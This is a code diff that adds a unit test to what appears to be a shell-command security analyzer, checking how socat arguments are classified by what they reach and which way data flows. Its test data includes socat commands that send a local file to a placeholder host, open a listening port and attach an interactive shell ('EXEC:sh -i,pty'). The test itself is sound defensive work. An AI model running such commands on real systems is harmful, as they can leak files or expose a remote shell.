@@ -25,6 +25,7 @@ from sentinel_lab._analysis._shell import (
     parse_commands,
     posix_norm,
     reads_stdin,
+    socat_addresses,
     split_options,
     write_targets,
 )
@@ -464,3 +465,32 @@ def test_any_text_parses_without_error(text: str) -> None:
             assert isinstance(c.name, str) and all(isinstance(w, str) for w in c.argv)
         system_commands.check(a, Settings())
         privilege_escalation.check(a, Settings())
+
+
+@pytest.mark.parametrize(
+    ("argv", "expected"),
+    [
+        (
+            ["socat", "-u", "OPEN:/tmp/x.sh", "TCP:h.example:80"],
+            [("file", "/tmp/x.sh", True, False), ("network", "h.example:80", False, True)],
+        ),
+        (
+            ["socat", "-U", "CREATE:out.bin,perm=0600", "tcp-l:4444,fork"],
+            [("file", "out.bin", False, True), ("network", "4444", True, False)],
+        ),
+        (
+            ["socat", "-d", "-d", "-lf", "/tmp/socat.log", "-", "ssl:h.example:443,verify=0"],
+            [("stdio", "", True, True), ("network", "h.example:443", True, True)],
+        ),
+        (
+            ["socat", "/var/tmp/fifo", "EXEC:sh -i,pty"],
+            [("file", "/var/tmp/fifo", True, True), ("exec", "sh -i,pty", True, True)],
+        ),
+        (["socat", "PTY,raw", "3"], [("other", "", True, True), ("stdio", "", True, True)]),
+        (["socat", "-u", "OPEN:a"], []),
+    ],
+)
+def test_socat_addresses_name_what_each_reaches_and_which_way_data_flows(
+    argv: list[str], expected: list[tuple]
+) -> None:
+    assert [tuple(a) for a in socat_addresses(argv)] == expected
